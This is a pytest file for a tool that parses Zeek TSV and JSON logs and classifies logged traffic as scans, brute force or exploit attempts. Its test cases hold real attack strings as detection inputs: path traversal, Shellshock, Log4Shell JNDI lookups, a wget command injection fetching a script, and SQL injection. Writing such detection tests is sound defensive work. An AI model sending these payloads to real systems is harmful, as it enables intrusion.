"""Zeek logs, TSV and JSON: headers, log types, what is evidence and how it maps (#3)."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.evidence.conformance import CTX, assert_accounted, records_of
from wuzhen.evidence import parsers
from wuzhen.evidence.ingest import IngestOptions
from wuzhen.evidence.parsers._base import RECORD, ParseResult, decode_json
from wuzhen.evidence.parsers.zeek import TsvState, infer_from_names, zeek_time
from wuzhen.node import Node

TSV = parsers.get("zeek-tsv")
JSON = parsers.get("zeek-json")
SAMPLES = Path(__file__).resolve().parents[2] / "data" / "evidence"

CONN_FIELDS = [
    "ts",
    "uid",
    "id.orig_h",
    "id.orig_p",
    "id.resp_h",
    "id.resp_p",
    "proto",
    "service",
    "duration",
    "orig_bytes",
    "resp_bytes",
    "conn_state",
    "local_orig",
    "local_resp",
    "missed_bytes",
    "history",
    "orig_pkts",
    "orig_ip_bytes",
    "resp_pkts",
    "resp_ip_bytes",
    "tunnel_parents",
]


def header(path: str | None, fields: list[str], sep: str = "\t") -> list[str]:
    lines = [
        "#separator " + "".join(f"\\x{ord(ch):02x}" for ch in sep),
        f"#set_separator{sep},",
        f"#empty_field{sep}(empty)",
        f"#unset_field{sep}-",
    ]
    if path is not None:
        lines.append(f"#path{sep}{path}")
    types = sep.join("time" if f == "ts" else "string" for f in fields)
    return [
        *lines,
        f"#open{sep}2024-11-28-08-00-00",
        "#fields" + sep + sep.join(fields),
        "#types" + sep + types,
    ]


def conn(
    ts: str,
    src: str,
    state: str,
    proto: str = "tcp",
    resp_bytes: str = "0",
    history: str = "S",
    orig_bytes: str = "0",
) -> str:
    values = [ts, "Cuid1", src, "51515", "192.0.2.10", "23", proto, "-", "0.5", orig_bytes]
    values += [resp_bytes, state, "F", "T", "0", history, "1", "44", "0", "0", "(empty)"]
    return "\t".join(values)


def parse(parser: parsers.Parser, lines: list[str], state: Any = None) -> ParseResult:
    records = records_of(lines)
    result = parser.parse(records, parser.new_state() if state is None else state, CTX)
    assert_accounted(records, result)
    return result


def event(result: ParseResult, record: int) -> dict[str, Any]:
    rows = result.events.filter(pl.col(RECORD) == record).to_dicts()
    assert len(rows) == 1, result
    return rows[0]


def reason(result: ParseResult, record: int) -> str:
    rows = result.skipped.filter(pl.col(RECORD) == record)["reason"].to_list()
    rows += result.rejects.filter(pl.col(RECORD) == record)["reason"].to_list()
    assert len(rows) == 1, result
    value: str = rows[0]
    return value


# -- TSV ---------------------------------------------------------------------------------


def test_tsv_conn_scan_maps_every_field() -> None:
    lines = [*header("conn", CONN_FIELDS), conn("1732780801.123456", "114.114.114.114", "S0")]
    result = parse(TSV, lines)
    ev = event(result, 9)
    assert ev["raw"] == lines[8]
    assert ev["time.source"] == datetime(2024, 11, 28, 8, 0, 1, 123456, tzinfo=UTC)
    assert ev["source.ip"] == "114.114.114.114"
    assert ev["source.port"] == 51515
    assert (ev["destination.ip"], ev["destination.port"]) == ("192.0.2.10", 23)
    assert (ev["protocol.transport"], ev["protocol.application"]) == ("tcp", None)
    assert ev["classification.type"] == "scanner"
    assert ev["classification.identifier"] == "zeek-conn:S0"
    assert json.loads(ev["extra"]) == {
        "log": "conn",
        "uid": "Cuid1",
        "conn_state": "S0",
        "history": "S",
        "duration": 0.5,
        "orig_bytes": 0,
        "resp_bytes": 0,
        "orig_pkts": 1,
        "resp_pkts": 0,
    }
    assert set(result.skipped["reason"]) == {"zeek log header"}
    assert result.skipped.height == 8


ONE_SIDED = "TCP connection seen one way or midstream, not a scan (originator data or no SYN)"


@pytest.mark.parametrize(
    ("state", "proto", "resp_bytes", "history", "expected"),
    [
        ("S0", "tcp", "0", "S", "zeek-conn:S0"),
        ("REJ", "tcp", "0", "Sr", "zeek-conn:REJ"),
        ("RSTOS0", "tcp", "-", "SR", "zeek-conn:RSTOS0"),
        ("SH", "tcp", "0", "SF", "zeek-conn:SH"),
        ("OTH", "tcp", "0", "Sh", "zeek-conn:OTH"),  # SYN-ACKed, never answered: a SYN scan
        ("S0", "tcp", "-", "-", "zeek-conn:S0"),  # no history: the state says a SYN was sent
        ("REJ", "tcp", "0", "(empty)", "zeek-conn:REJ"),
        ("RSTRH", "tcp", "0", "r", ONE_SIDED),  # no SYN from the originator
        ("RSTRH", "tcp", "0", "-", ONE_SIDED),
        ("SHR", "tcp", "-", "hf", ONE_SIDED),
        ("OTH", "tcp", "0", "A", ONE_SIDED),  # midstream
        ("OTH", "tcp", "0", "-", ONE_SIDED),
        ("S0", "tcp", "0", "SA", ONE_SIDED),  # the originator ACKed: seen one way
        ("REJ", "udp", "0", "D", "zeek-conn:REJ"),
        ("OTH", "tcp", "120", "DdA", "normal connection"),
        ("SF", "tcp", "5000", "ShADadFf", "normal connection"),
        ("S1", "tcp", "0", "ShA", "normal connection"),
        ("RSTR", "tcp", "900", "ShADadr", "normal connection"),
        ("S0", "udp", "-", "D", "UDP or ICMP flow without a reply (not evidence by itself)"),
        ("OTH", "icmp", "-", "-", "UDP or ICMP flow without a reply (not evidence by itself)"),
        ("SF", "udp", "80", "Dd", "normal connection"),
    ],
)
def test_conn_states(state: str, proto: str, resp_bytes: str, history: str, expected: str) -> None:
    lines = [
        *header("conn", CONN_FIELDS),
        conn("1732780801.5", "203.0.113.9", state, proto, resp_bytes, history),
    ]
    result = parse(TSV, lines)
    if expected.startswith("zeek-conn:"):
        assert event(result, 9)["classification.identifier"] == expected
        assert event(result, 9)["protocol.transport"] == proto
    else:
        assert reason(result, 9) == expected


def test_icmp_type_and_code_are_not_ports() -> None:
    lines = [*header("conn", CONN_FIELDS), conn("1732780801.5", "203.0.113.9", "REJ", "icmp")]
    ev = event(parse(TSV, lines), 9)
    assert (ev["source.port"], ev["destination.port"]) == (None, None)
    assert ev["protocol.transport"] == "icmp"


def test_headers_carry_over_batches() -> None:
    state = TSV.new_state()
    assert isinstance(state, TsvState)
    first = records_of(header("conn", CONN_FIELDS))
    TSV.parse(first, state, CTX)
    second = pl.DataFrame(
        {RECORD: [10], "line": [conn("1732780801.5", "203.0.113.9", "S0")]},
        schema={RECORD: pl.Int64, "line": pl.String},
    )
    result = TSV.parse(second, state, CTX)
    assert result.events[RECORD].to_list() == [10]
    assert result.events["classification.identifier"].to_list() == ["zeek-conn:S0"]


def test_concatenated_logs_each_read_with_their_own_header() -> None:
    ssh_fields = [
        "ts",
        "uid",
        "id.orig_h",
        "id.orig_p",
        "id.resp_h",
        "id.resp_p",
        "auth_success",
        "auth_attempts",
    ]
    lines = [
        *header("conn", CONN_FIELDS),
        conn("1732780801.5", "203.0.113.9", "S0"),
        "#close\t2024-11-28-09-00-00",
        *header("ssh", ssh_fields),
        "1732780901.000001\tCs1\t203.0.113.10\t40000\t192.0.2.10\t22\tF\t3",
        "1732780902.000001\tCs2\t198.51.100.10\t40001\t192.0.2.10\t22\tT\t1",
    ]
    result = parse(TSV, lines)
    assert event(result, 9)["classification.identifier"] == "zeek-conn:S0"
    ssh = event(result, 19)
    assert ssh["classification.identifier"] == "zeek-ssh:auth-failed"
    assert (ssh["protocol.transport"], ssh["protocol.application"]) == ("tcp", "ssh")
    assert json.loads(ssh["extra"])["auth_attempts"] == 3
    assert reason(result, 20) == "successful login"


def test_other_separator_and_unset_and_empty_values() -> None:
    fields = ["ts", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "conn_state"]
    lines = [
        *header("conn", [*fields, "history", "service"], sep="|"),
        "1732780801.5|203.0.113.9|4000|192.0.2.10|80|tcp|S0|(empty)|(empty)",
        "1732780802.5|203.0.113.9|4001|192.0.2.10|80|tcp|S0|-|http,ssl",
        "1732780803.5\t203.0.113.9\t4001\t192.0.2.10\t80\ttcp\tS0\t-\t-",
    ]
    result = parse(TSV, lines)
    empty = event(result, 9)
    assert json.loads(empty["extra"])["history"] == ""
    assert empty["protocol.application"] is None
    unset = event(result, 10)
    assert "history" not in json.loads(unset["extra"])
    assert unset["protocol.application"] == "http"
    assert reason(result, 11) == "number of values differs from the #fields header"


def test_a_sites_own_path_name_is_read_by_its_fields() -> None:
    lines = [*header("conn_outside", CONN_FIELDS), conn("1732780801.5", "203.0.113.9", "REJ")]
    assert event(parse(TSV, lines), 9)["classification.identifier"] == "zeek-conn:REJ"
    record = {"_path": "http_outbound", "ts": 1732780801.5, **http("/../../etc/passwd")}
    result = parse(JSON, [json.dumps(record)])
    assert event(result, 1)["classification.identifier"] == "http:path-traversal"


def test_log_type_inferred_from_fields_without_path() -> None:
    lines = [*header(None, CONN_FIELDS), conn("1732780801.5", "203.0.113.9", "S0")]
    assert event(parse(TSV, lines), 8)["classification.identifier"] == "zeek-conn:S0"
    assert infer_from_names({"ts", "uid", "note"}) == "notice"
    assert infer_from_names({"ts", "uid", "method", "uri"}) == "http"
    assert infer_from_names({"ts", "uid", "client", "server"}) == "ssh"
    assert infer_from_names({"ts", "uid"}) is None


def test_tsv_rejects() -> None:
    lines = [
        conn("1732780801.5", "203.0.113.9", "S0"),
        *header("conn", CONN_FIELDS),
        conn("XXXXXXXXXX.XXXXXX", "203.0.113.9", "S0"),
        "garbage line",
        "### BTest baseline data generated by btest-diff. Do not edit.",
    ]
    result = parse(TSV, lines)
    assert reason(result, 1) == "data line before any #fields header"
    assert reason(result, 10) == "ts is not a Zeek time value"
    assert reason(result, 11) == "number of values differs from the #fields header"
    assert reason(result, 12) == "zeek log header"
    assert result.events.height == 0


# -- classification, one record at a time (JSON is the shortest way to write one) ---------

BASE = {"uid": "Cx", "id.orig_h": "203.0.113.5", "id.orig_p": 40000, "id.resp_h": "192.0.2.10"}
WEB = {**BASE, "id.resp_p": 80, "method": "GET", "host": "www.example.org", "status_code": 404}
MOZ = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"


def http(uri: str, ua: str = MOZ, **more: Any) -> dict[str, Any]:
    return {**WEB, "uri": uri, "user_agent": ua, **more}


CASES: list[tuple[dict[str, Any], str]] = [
    ({**BASE, "id.resp_p": 22, "auth_success": False, "auth_attempts": 4}, "zeek-ssh:auth-failed"),
    ({**BASE, "id.resp_p": 22, "auth_attempts": 2}, "zeek-ssh:auth-without-success"),
    ({**BASE, "id.resp_p": 22, "auth_success": True, "auth_attempts": 1}, "successful login"),
    # Bro 2.0-2.3 logged its guess of the outcome in status
    (
        {
            **BASE,
            "id.resp_p": 22,
            "status": "failure",
            "client": "SSH-2.0-libssh-0.5.2",
            "server": "SSH-2.0-OpenSSH_6.0",
        },
        "zeek-ssh:auth-failed",
    ),
    (
        {
            **BASE,
            "id.resp_p": 22,
            "status": "success",
            "client": "SSH-2.0-OpenSSH_6.6",
            "server": "SSH-2.0-OpenSSH_6.0",
        },
        "successful login",
    ),
    (
        {**BASE, "id.resp_p": 22, "client": "SSH-2.0-Go", "server": "SSH-2.0-OpenSSH_9.6"},
        "no authentication attempt seen",
    ),
    (http("/cgi-bin/../../etc/passwd"), "http:path-traversal"),
    (http("/a/..%2f..%2fwin.ini"), "http:path-traversal"),
    (http("/a/%252e%252e/%252e%252e/etc/passwd"), "http:path-traversal"),
    (http("/cgi-bin/test.cgi", "() { :; }; echo; /bin/id"), "http:shellshock"),
    (http("/", MOZ, referrer="() { ignored; }; /bin/id"), "http:shellshock"),
    (http("/api?q=${jndi:ldap://203.0.113.5/a}"), "http:log4shell"),
    (http("/api?q=%24%7Bjndi:ldap://203.0.113.5/a%7D"), "http:log4shell"),
    (http("/ping.cgi?ip=1;wget%20http://203.0.113.5/x.sh"), "http:command-injection"),
    (http("/p.php?id=1'%20OR%20'1'='1"), "http:sql-injection"),
    (http("/p.php?id=1+UNION+ALL+SELECT+null,version()"), "http:sql-injection"),
    (http("/p.php?id=1;waitfor%20delay%20'0:0:5'"), "http:sql-injection"),
    (http("/HNAP1/"), "http:iot-exploit"),
    (
        http("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", method="POST"),
        "http:phpunit-rce",
    ),
    (http("/wls-wsat/CoordinatorPortType"), "http:weblogic-exploit"),
    (http("/wp-login.php", method="POST", status_code=200), "http:wp-login-brute-force"),
    (
        http("/wp-login.php", method="POST", status_code=302),
        "successful login (redirect after the login form)",
    ),
    (http("/xmlrpc.php", method="POST", status_code=200), "http:xmlrpc-brute-force"),
    (http("/.env", "python-requests/2.31"), "http:sensitive-file"),
    (http("/.git/config", status_code=200), "http:sensitive-file"),
    (http("/phpmyadmin/index.php"), "http:app-probe"),
    (http("/phpmyadmin/index.php", status_code=200), "normal HTTP request"),
    (http("/old/backup.php"), "http:script-probe"),
    (http("/old/backup.php", "Mozilla/5.0 (compatible; Googlebot/2.1)"), "normal HTTP request"),
    (http("www.example.org:443", method="CONNECT", status_code=405), "http:proxy-probe"),
    (http("/", "sqlmap/1.8#stable (https://sqlmap.org)"), "http:scanner-ua"),
    (
        http(
            "/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
        ),
        "http:scanner-ua",
    ),
    (http("/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"), "http:scanner-ua"),
    (http("/missing-page"), "normal HTTP request"),
    (http("/search?q=union+station+opening+hours", status_code=200), "normal HTTP request"),
    (http("/blog/selecting-a-font-from-a-list", status_code=200), "normal HTTP request"),
    (http("/index.html", status_code=200), "normal HTTP request"),
    ({**BASE, "id.resp_p": 53, "proto": "udp", "query": "www.example.org"}, "DNS query or answer"),
    (
        {**BASE, "note": "Scan::Address_Scan", "src": "203.0.113.5", "p": 445},
        "zeek-notice:Scan::Address_Scan",
    ),
    ({**BASE, "note": "FTP::Bruteforcing", "src": "203.0.113.5"}, "zeek-notice:FTP::Bruteforcing"),
    (
        {**BASE, "note": "HTTP::SQL_Injection_Attacker", "src": "203.0.113.5"},
        "zeek-notice:HTTP::SQL_Injection_Attacker",
    ),
    (
        {**BASE, "note": "Signatures::Multiple_Signatures", "src": "203.0.113.5"},
        "zeek-notice:Signatures::Multiple_Signatures",
    ),
    (
        {**BASE, "note": "My::Custom_Detection", "src": "203.0.113.5"},
        "zeek-notice:My::Custom_Detection",
    ),
    (
        {**BASE, "note": "SSL::Invalid_Server_Cert"},
        "TLS notice describes the server's certificate or settings, not abuse",
    ),
    (
        {**BASE, "note": "HTTP::SQL_Injection_Victim", "src": "192.0.2.10"},
        "the notice names the victim, not the attacker",
    ),
    (
        {**BASE, "note": "Intel::Notice"},
        "intelligence match (the matched indicator may be either endpoint)",
    ),
    ({**BASE, "note": "PacketFilter::Dropped_Packets"}, "sensor status notice"),
    ({**BASE, "note": "Weird::Activity"}, "protocol anomaly (weird) is not evidence by itself"),
    ({**BASE, "note": "Software::Vulnerable_Version"}, "software inventory notice"),
    (
        {**BASE, "name": "bad_HTTP_request", "notice": False, "peer": "zeek"},
        "protocol anomaly (weird) is not evidence by itself",
    ),
    (
        {**BASE, "command": "PASS", "reply_code": 530, "reply_msg": "Login incorrect."},
        "zeek-ftp:login-failed",
    ),
    (
        {**BASE, "command": "RETR", "arg": "/pub/x", "reply_code": 550},
        "FTP command (not a failed login)",
    ),
    (
        {**BASE, "helo": "x", "last_reply": "535 5.7.8 Authentication credentials invalid"},
        "zeek-smtp:auth-failed",
    ),
    ({**BASE, "helo": "x", "last_reply": "250 2.0.0 Ok: queued"}, "mail transaction"),
    ({**BASE, "cookie": "nmap"}, "zeek-rdp:scanner-cookie"),
    ({**BASE, "cookie": "rdp_logon_screen.nbin", "result": "Success"}, "zeek-rdp:scanner-cookie"),
    (
        {**BASE, "cookie": "Administr", "result": "SSL_REQUIRED_BY_SERVER"},
        "zeek-rdp:SSL_REQUIRED_BY_SERVER",
    ),
    (
        {**BASE, "cookie": "jdoe", "result": "encrypted", "security_protocol": "HYBRID"},
        "RDP connection without a failure",
    ),
    ({**BASE, "domainname": "EXAMPLE", "success": False}, "zeek-ntlm:auth-failed"),
    ({**BASE, "domainname": "EXAMPLE", "success": True}, "successful login"),
    ({**BASE, "server_nb_computer_name": "SRV"}, "zeek ntlm log is not evidence"),
    (
        {**BASE, "request_type": "AS", "success": False, "error_msg": "KDC_ERR_PREAUTH_FAILED"},
        "zeek-kerberos:KDC_ERR_PREAUTH_FAILED",
    ),
    (
        {**BASE, "request_type": "AS", "success": False, "error_msg": "KDC_ERR_CLIENT_REVOKED"},
        "zeek-kerberos:KDC_ERR_CLIENT_REVOKED",
    ),
    (
        {**BASE, "request_type": "AS", "success": False, "error_msg": "KDC_ERR_PREAUTH_REQUIRED"},
        "Kerberos pre-authentication required (the normal first step)",
    ),
    ({**BASE, "request_type": "TGS", "success": True}, "successful Kerberos request"),
    (
        {
            **BASE,
            "request_type": "TGS",
            "success": False,
            "error_msg": "KDC_ERR_S_PRINCIPAL_UNKNOWN",
        },
        "zeek kerberos log is not evidence",
    ),
    ({**BASE, "endpoint": "samr", "operation": "SamrConnect2"}, "zeek dce_rpc log is not evidence"),
    (
        {**BASE, "server_name": "www.example.org", "established": True},
        "zeek ssl log is not evidence",
    ),
    ({**BASE, "_path": "conn", "proto": "tcp"}, "normal connection"),
    ({**BASE, "_path": "modbus", "func": "READ_COILS"}, "zeek modbus log is not evidence"),
    (BASE, "zeek record of unknown log type (no _path and no distinguishing fields)"),
]


@pytest.mark.parametrize(
    ("record", "expected"), CASES, ids=lambda v: v if isinstance(v, str) else ""
)
def test_classification(record: dict[str, Any], expected: str) -> None:
    result = parse(JSON, [json.dumps({"ts": 1732780801.25, **record})])
    if expected.startswith(("zeek-", "http:")):
        assert event(result, 1)["classification.identifier"] == expected
    else:
        assert reason(result, 1) == expected


def test_event_types() -> None:
    lines = [json.dumps({"ts": 1732780801.25, **rec}) for rec, _ in CASES]
    result = parse(JSON, lines)
    kinds = dict(
        result.events.select("classification.identifier", "classification.type").iter_rows()
    )
    assert kinds["zeek-ssh:auth-failed"] == "brute-force"
    assert kinds["http:path-traversal"] == "exploit"
    assert kinds["http:wp-login-brute-force"] == "brute-force"
    assert kinds["http:scanner-ua"] == "scanner"
    assert kinds["http:sensitive-file"] == "scanner"
    assert kinds["zeek-notice:Scan::Address_Scan"] == "scanner"
    assert kinds["zeek-notice:FTP::Bruteforcing"] == "brute-force"
    assert kinds["zeek-notice:HTTP::SQL_Injection_Attacker"] == "exploit"
    assert kinds["zeek-notice:Signatures::Multiple_Signatures"] == "ids-alert"
    assert kinds["zeek-notice:My::Custom_Detection"] == "undetermined"
    assert kinds["zeek-rdp:scanner-cookie"] == "scanner"
    assert kinds["zeek-rdp:SSL_REQUIRED_BY_SERVER"] == "brute-force"
    assert kinds["zeek-kerberos:KDC_ERR_PREAUTH_FAILED"] == "brute-force"


def test_notice_source_and_destination_come_from_src_dst_and_p() -> None:
    scan = {"ts": "1732780801.5", "note": "Scan::Address_Scan", "src": "203.0.113.9", "p": 23}
    portscan = {
        "ts": 1732780802,
        **BASE,
        "id.resp_p": 8080,
        "proto": "tcp",
        "note": "Scan::Port_Scan",
        "msg": "203.0.113.66 scanned at least 15 unique ports of host 192.0.2.99 in 0m1s",
        "src": "203.0.113.66",
        "dst": "192.0.2.99",
    }
    result = parse(JSON, [json.dumps(scan), json.dumps(portscan)])
    first = event(result, 1)
    assert (first["source.ip"], first["source.port"]) == ("203.0.113.9", None)
    assert (first["destination.ip"], first["destination.port"]) == (None, 23)
    second = event(result, 2)
    assert (second["source.ip"], second["source.port"]) == ("203.0.113.66", None)
    assert (second["destination.ip"], second["destination.port"]) == ("192.0.2.99", None)
    assert second["protocol.transport"] == "tcp"
    # the host scanned is the owner's own, never shared: not in the description either (a
    # tester found it in the STIX indicator's name and the MISP comment)
    assert second["event_description.text"] == (
        "203.0.113.66 scanned at least 15 unique ports of host [destination] in 0m1s"
    )
    assert first["event_description.text"] is None


def test_http_event_fields() -> None:
    record = http("/cgi-bin/../../etc/passwd", "curl/8.4.0", status_code=404)
    ev = event(parse(JSON, [json.dumps({"ts": 1732780801.25, **record})]), 1)
    assert ev["destination.fqdn"] == "www.example.org"
    assert ev["destination.urlpath"] == "/cgi-bin/../../etc/passwd"
    assert (ev["protocol.transport"], ev["protocol.application"]) == ("tcp", "http")
    assert json.loads(ev["extra"]) == {
        "log": "http",
        "uid": "Cx",
        "method": "GET",
        "status_code": 404,
        "user_agent": "curl/8.4.0",
    }


def test_personal_data_stays_out_of_extra() -> None:
    tsv = parse(TSV, (SAMPLES / "zeek-tsv" / "mixed.log").read_text().splitlines())
    js = parse(JSON, (SAMPLES / "zeek-json" / "mixed.log").read_text().splitlines())
    extra = " ".join(pl.concat([tsv.events["extra"], js.events["extra"]]).drop_nulls())
    for log in ("ntlm", "kerberos", "ftp", "rdp"):
        assert f'"log":"{log}"' in extra
    for personal in (
        "administrator",
        "root",
        "<hidden>",
        "jdoe",
        "svc_backup",
        "WIN-ABC",
        "KALI",
        "Administr",
    ):
        assert personal not in extra


ASYM = {
    **BASE,
    "id.resp_p": 443,
    "proto": "tcp",
    "duration": 30.2,
    "missed_bytes": 0,
    "resp_bytes": 0,
    "resp_pkts": 0,
}


@pytest.mark.parametrize(
    "record",
    [
        {**ASYM, "conn_state": "S0", "history": "SAD", "orig_bytes": 5120, "orig_pkts": 14},
        {**ASYM, "conn_state": "SH", "history": "SADF", "orig_bytes": 5120, "orig_pkts": 15},
        {**ASYM, "conn_state": "OTH", "history": "AD", "orig_bytes": 5120, "orig_pkts": 15},
        {**ASYM, "conn_state": "RSTRH", "history": "r", "orig_bytes": 0, "orig_pkts": 0},
        {**ASYM, "conn_state": "S0", "orig_bytes": 5120},  # payload, no history
    ],
    ids=["S0-SAD", "SH-SADF", "OTH-AD", "RSTRH-r", "S0-payload"],
)
def test_one_sided_and_midstream_connections_are_not_scans(record: dict[str, Any]) -> None:
    """Regression: asymmetric routing made established connections ``zeek-conn:`` scanners."""
    result = parse(JSON, [json.dumps({"ts": 1732780801.1, **record})])
    assert result.events.height == 0
    assert reason(result, 1) == ONE_SIDED


# -- JSON specifics ----------------------------------------------------------------------


def test_json_times_epoch_and_iso_are_utc_to_the_microsecond() -> None:
    base = {**BASE, "id.resp_p": 23, "proto": "tcp", "conn_state": "S0"}
    lines = [
        json.dumps({"ts": 1575413186.258834, **base}),
        json.dumps({"ts": "2019-12-03T22:46:26.258834Z", **base}),
        json.dumps({"ts": "2019-12-03T23:46:26.258834+01:00", **base}),
        json.dumps({"ts": 1575413186, **base}),
    ]
    result = parse(JSON, lines)
    want = datetime(2019, 12, 3, 22, 46, 26, 258834, tzinfo=UTC)
    assert result.events.sort(RECORD)["time.source"].to_list() == [
        want,
        want,
        want,
        want.replace(microsecond=0),
    ]


def test_zeek_time_values() -> None:
    values = [
        "1521911720.600843",
        "1521911720",
        "1.5219117206e9",
        "-",
        "XXXXXXXXXX.XXXXXX",
        "inf",
        "1e300",
    ]
    got = pl.select(zeek_time(pl.lit(pl.Series(values)))).to_series().to_list()
    assert got[0] == datetime(2018, 3, 24, 17, 15, 20, 600843, tzinfo=UTC)
    assert got[1] == datetime(2018, 3, 24, 17, 15, 20, tzinfo=UTC)
    assert got[2] == datetime(2018, 3, 24, 17, 15, 20, 600000, tzinfo=UTC)
    assert got[3:] == [None, None, None, None]


def test_json_rejects() -> None:
    lines = [
        "[1, 2]",
        "not json",
        '{"ts": 1732780801.5, "uid": "C1", "id.orig_h": "203.0.113.5"',
        json.dumps({"timestamp": "2024-11-28T08:00:00Z", "src_ip": "203.0.113.5"}),
        json.dumps({"ts": "yesterday", **BASE, "conn_state": "S0", "proto": "tcp"}),
        json.dumps({"ts": 1732780801.5, "note": "Scan::Port_Scan", "dst": "192.0.2.10"}),
    ]
    result = parse(JSON, lines)
    assert [reason(result, i) for i in range(1, 7)] == [
        "not a JSON object",
        "not a JSON object",
        "not a JSON object",
        "not a Zeek record (no ts)",
        "ts is not a Zeek time value",
        "evidence record without a source address",
    ]


def test_decode_json_survives_lines_that_are_not_json() -> None:
    """Regression (#3): DuckDB evaluated json_type on every line and raised on non-JSON."""
    got = decode_json(pl.Series(["nope", '{"ts": 1}', "[1]", "{"]), {"ts": ""})
    assert got.is_object.to_list() == [False, True, False, False]
    assert got.is_json.to_list() == [False, True, True, False]
    assert got.fields["ts"].to_list() == [None, "1", None, None]


# -- sniffing --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("zeek-tsv/conn.log", "zeek-tsv"),
        ("zeek-tsv/mixed.log", "zeek-tsv"),
        ("zeek-json/conn.log", "zeek-json"),
        ("zeek-json/mixed.log", "zeek-json"),
    ],
)
def test_detected_from_content(path: str, name: str) -> None:
    lines = (SAMPLES / path).read_text().splitlines()
    assert parsers.detect(lines[:50]).name == name


def test_a_notice_log_of_scans_is_detected() -> None:
    # Tester's report: Zeek's scan and password-guessing notices name no connection (no uid,
    # no id.*), and a JSON notice.log of them was "format not recognised".
    notices = [
        {"ts": 1732780802.0, "note": "Scan::Address_Scan", "msg": "scanned 25 hosts",
         "src": "203.0.113.57", "p": 22, "n": 25, "actions": ["Notice::ACTION_LOG"]},
        {"ts": 1732780803.0, "note": "SSH::Password_Guessing", "msg": "guessing",
         "src": "203.0.113.58", "sub": "Sampled servers: 192.0.2.10"},
    ]  # fmt: skip
    assert parsers.detect([json.dumps(n) for n in notices]).name == "zeek-json"


def test_other_formats_are_not_zeek() -> None:
    auth = (SAMPLES / "openssh" / "auth.log").read_text().splitlines()[:50]
    eve = [
        json.dumps(
            {
                "timestamp": "2024-11-28T08:00:00.000000+0000",
                "event_type": "alert",
                "src_ip": "203.0.113.5",
                "src_port": 4000,
                "dest_ip": "192.0.2.10",
                "dest_port": 80,
                "proto": "TCP",
            }
        )
    ]
    for sample in (auth, eve, ["#just a comment", "plain text"]):
        assert TSV.sniff(sample) == 0
        assert JSON.sniff(sample) == 0
    tsv = (SAMPLES / "zeek-tsv" / "conn.log").read_text().splitlines()
    assert JSON.sniff(tsv) == 0
    js = (SAMPLES / "zeek-json" / "conn.log").read_text().splitlines()
    assert TSV.sniff(js) == 0


def test_through_the_pipeline_a_public_source_is_attributed_and_routed(sqlite_node: Node) -> None:
    path = SAMPLES / "zeek-tsv" / "conn.log"
    f = sqlite_node.pipeline.ingest([path], IngestOptions(owner="CN")).files[0]
    assert f.format == "zeek-tsv"
    # 6 scans; the OTH with history A (a lone ACK, no SYN: midstream) is skipped
    assert (f.records, f.events, f.skipped, f.rejects) == (21, 6, 14, 1)
    assert f.skipped_reasons[ONE_SIDED] == 1
    assert f.skipped_reasons["zeek log header"] == 9
    rows = {r["evidence.record"]: r for r in sqlite_node.store.scan("events").collect().to_dicts()}
    scan = rows[9]  # 114.114.114.114 -> 192.0.2.10:23, S0
    assert scan["source.registration.cc"] == "CN"
    assert (scan["route.member"], scan["route.state"]) == ("CN", "routed")
    assert scan["classification.taxonomy"] == "information-gathering"
    assert scan["evidence.format"] == "zeek-tsv"
    documentation = rows[14]  # 2001:db8::bad, a documentation address
    assert documentation["source.special_purpose"] == "documentation"
    assert documentation["route.state"] == "unrouted"


@settings(max_examples=30, deadline=None)
@given(st.lists(st.integers(1, 40), max_size=6))
def test_batches_do_not_change_the_result(cuts: list[int]) -> None:
    """The headers in force carry from batch to batch, wherever the batches are cut."""
    records = records_of((SAMPLES / "zeek-tsv" / "mixed.log").read_text().splitlines())
    whole = TSV.parse(records, TSV.new_state(), CTX)
    state = TSV.new_state()
    parts: list[ParseResult] = []
    start = 0
    for size in [*cuts, records.height]:
        part = records.slice(start, size)
        start += part.height
        if part.height:
            parts.append(TSV.parse(part, state, CTX))

    def rows(frames: list[pl.DataFrame], columns: list[str]) -> list[tuple[Any, ...]]:
        return sorted(pl.concat([f.select(columns) for f in frames]).iter_rows())

    event_columns = [RECORD, "classification.identifier", "source.ip", "time.source"]
    assert rows([p.events for p in parts], event_columns) == rows([whole.events], event_columns)
    assert rows([p.skipped for p in parts], [RECORD, "reason"]) == rows(
        [whole.skipped], [RECORD, "reason"]
    )
    assert rows([p.rejects for p in parts], [RECORD, "reason"]) == rows(
        [whole.rejects], [RECORD, "reason"]
    )
